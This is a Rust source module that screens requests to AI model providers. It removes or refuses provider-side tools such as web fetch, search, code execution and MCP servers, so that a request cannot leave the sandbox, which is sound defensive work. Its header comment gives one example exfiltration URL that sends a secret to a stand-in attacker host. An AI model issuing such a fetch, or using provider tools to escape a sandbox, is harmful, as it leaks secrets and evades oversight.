//! Screens requests to models for work that the provider would do on its own machines.
//!
//! A request can make the provider fetch `https://evil.example/?d=SECRET`, search the web, run code or
//! connect to an MCP server: a way out of the sandbox that no allowlist sees. Each wire has an allowlist
//! of what stays between client and model. Everything else needs the permission of its
//! [`ProviderTool`] kind: tools and parameters without permission are removed from the request, and a
//! request that names URLs, MCP servers or stored files is refused.
//!
//! [`screen`] is pure. `anthropic`, `chat` and `responses` know the wires; `remote` the fields that all share.

mod anthropic;
mod chat;
mod remote;
mod responses;
#[cfg(test)]
mod tests;
mod tools;

use std::collections::BTreeSet;

use ralph_core::net::{ProviderTool, ProviderToolAction};
use serde_json::{Map, Value};

use crate::audit::sanitize_text;
use crate::meter::ModelWireFormat;

/// How many different findings of one request are reported. What is removed or refused is not bounded.
const MAX_FINDINGS: usize = 32;
/// How much of a name in a request is repeated, in characters.
const MAX_NAME_CHARS: usize = 64;

/// A provider-side tool that a request asked for, and what became of it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ProviderToolUse {
    /// The permission that it needs; none means that no permission lets it pass.
    pub kind: Option<ProviderTool>,
    /// The part of the request: a tool, a parameter, the host of a URL.
    pub what: String,
    /// The decision.
    pub action: ProviderToolAction,
}

impl ProviderToolUse {
    /// Returns the reason for the client, in one line.
    pub(super) fn reason(&self) -> String {
        let what = &self.what;
        match self.kind {
            Some(kind) => format!(
                "the request asks the provider for {what} — this run does not allow `{kind}` — \
                 send the data itself, or ask for `{kind}` in `sandbox.network.provider_tools`"
            ),
            None => format!(
                "the request asks the provider for {what} — it works outside of the sandbox — \
                 send the request without it"
            ),
        }
    }
}

/// The result of screening a request.
#[derive(Debug, Default, PartialEq, Eq)]
pub(super) struct Screening {
    /// What was found, each once.
    pub(super) findings: Vec<ProviderToolUse>,
    /// Whether the request is different now.
    pub(super) is_changed: bool,
    refused: Option<ProviderToolUse>,
}

impl Screening {
    /// Returns the first finding because of which the request must not be sent.
    pub(super) fn refused(&self) -> Option<&ProviderToolUse> {
        self.refused.as_ref()
    }
}

/// Removes provider-side tools that are not allowed from a request, and reports all that it found.
pub(super) fn screen(
    wire: ModelWireFormat,
    request: &mut Map<String, Value>,
    allowed: &BTreeSet<ProviderTool>,
) -> Screening {
    let mut screener = Screener {
        allowed,
        screening: Screening::default(),
    };
    match wire {
        ModelWireFormat::AnthropicMessages => anthropic::screen(&mut screener, request),
        ModelWireFormat::OpenAiChat => chat::screen(&mut screener, request),
        ModelWireFormat::OpenAiResponses => responses::screen(&mut screener, request),
    }
    screener.screening
}

struct Screener<'a> {
    allowed: &'a BTreeSet<ProviderTool>,
    screening: Screening,
}

impl Screener<'_> {
    /// Refuses the request unless the kind is allowed.
    fn refuse(&mut self, kind: Option<ProviderTool>, what: impl Into<String>) {
        self.decide(kind, what.into(), ProviderToolAction::Refused);
    }

    /// Returns whether a part may stay in the request. The caller removes it otherwise.
    fn keep_if_allowed(&mut self, kind: Option<ProviderTool>, what: impl Into<String>) -> bool {
        self.decide(kind, what.into(), ProviderToolAction::Removed)
    }

    fn decide(
        &mut self,
        kind: Option<ProviderTool>,
        what: String,
        otherwise: ProviderToolAction,
    ) -> bool {
        let is_allowed = kind.is_some_and(|kind| self.allowed.contains(&kind));
        let action = if is_allowed {
            ProviderToolAction::Allowed
        } else {
            otherwise
        };
        let found = ProviderToolUse { kind, what, action };
        self.screening.is_changed |= action == ProviderToolAction::Removed;
        if action == ProviderToolAction::Refused && self.screening.refused.is_none() {
            self.screening.refused = Some(found.clone());
        }
        let findings = &mut self.screening.findings;
        if findings.len() < MAX_FINDINGS && !findings.contains(&found) {
            findings.push(found);
        }
        is_allowed
    }

    /// Removes the parameters of a request that are in neither list, and those in the second one unless
    /// their kind is allowed. A parameter without a value asks for nothing.
    fn screen_parameters(
        &mut self,
        request: &mut Map<String, Value>,
        known: &[&str],
        kinds: &[(&str, ProviderTool)],
    ) {
        let unknown: Vec<String> = request
            .iter()
            .filter(|(name, value)| !known.contains(&name.as_str()) && !value.is_null())
            .map(|(name, _)| name.clone())
            .collect();
        for name in unknown {
            let kind = kinds.iter().find(|(known, _)| *known == name);
            let kind = kind.map_or(ProviderTool::Parameters, |(_, kind)| *kind);
            if !self.keep_if_allowed(Some(kind), format!("the parameter {}", quoted(&name))) {
                request.remove(&name);
            }
        }
    }

    /// Refuses a part of a kind that this program does not know.
    fn refuse_unknown(&mut self, what: &str, type_name: Option<&str>) {
        let name = quoted(type_name.unwrap_or("without a type"));
        self.refuse(Some(ProviderTool::Parameters), format!("{what} {name}"));
    }
}

/// Returns a name from a request as a record can repeat it.
fn quoted(name: &str) -> String {
    let name: String = name.chars().take(MAX_NAME_CHARS).collect();
    format!("`{}`", sanitize_text(&name))
}

/// Returns the `type` of a part of a request.
fn type_of(part: &Value) -> Option<&str> {
    part.get("type").and_then(Value::as_str)
}

/// Returns the parts of a list; a single part counts as a list of one, and text has none.
fn content_parts(content: &Value) -> &[Value] {
    match content {
        Value::Array(parts) => parts,
        Value::Object(_) => std::slice::from_ref(content),
        Value::Null | Value::Bool(_) | Value::Number(_) | Value::String(_) => &[],
    }
}
